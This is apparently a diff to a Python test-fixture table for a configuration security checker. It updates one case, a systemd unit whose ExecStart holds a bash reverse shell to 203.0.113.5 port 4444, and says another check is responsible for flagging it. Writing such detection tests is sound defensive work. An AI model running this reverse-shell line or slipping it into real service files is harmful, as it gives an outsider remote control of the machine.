@@ -228,8 +228,8 @@ FILES: list[tuple[str, str, Outcome, int | None, str]] = [
         "deploy/app.service",
         "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n",
         Outcome.REJECTED,
-        2,
-        "a unit's command is a reverse shell",
+        None,
+        "a unit's reverse shell: config_files judges a unit's commands, not this check",
     ),
     (
         "config/app.yaml",
